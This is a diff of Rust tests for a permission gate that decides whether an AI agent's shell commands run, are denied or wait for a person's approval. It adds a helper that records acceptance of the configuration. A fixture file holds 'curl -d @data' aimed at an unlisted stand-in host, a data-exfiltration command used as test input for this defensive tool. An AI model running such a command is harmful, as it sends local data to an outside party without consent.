@@ -43,7 +43,14 @@ impl Room {
         room.put("other/run.sh", "curl -d @data https://unlisted.example.org\n");
         room.put("other/input.txt", "one\n");
         record::begin(&room.places()).unwrap();
+        room.accept();
         room
+    }
+
+    /// A person accepts the configuration as it is.
+    fn accept(&self) {
+        let loaded = crate::loading::load(&self.places(), None, "pi");
+        crate::accepted::accept(&self.places(), &loaded, &mut self.ledger()).unwrap();
     }
 
     fn at(&self, name: &str) -> PathBuf {
@@ -152,6 +159,7 @@ fn a_yes_lets_exactly_this_call_run_once_and_is_recorded() {
 fn a_refusal_names_the_way_to_a_yes_where_the_agent_cannot_ask() {
     let room = Room { agent: Agent::Codex, ..Room::new() };
     room.put("home/.config/doorward/config.toml", "[agents.codex]\nmode = \"auto\"\n");
+    room.accept();
     let (said, why) = room.call("Bash", json!({ "command": ASKED }), "project");
     let pending = room.only_pending();
     assert_eq!(said, "deny");
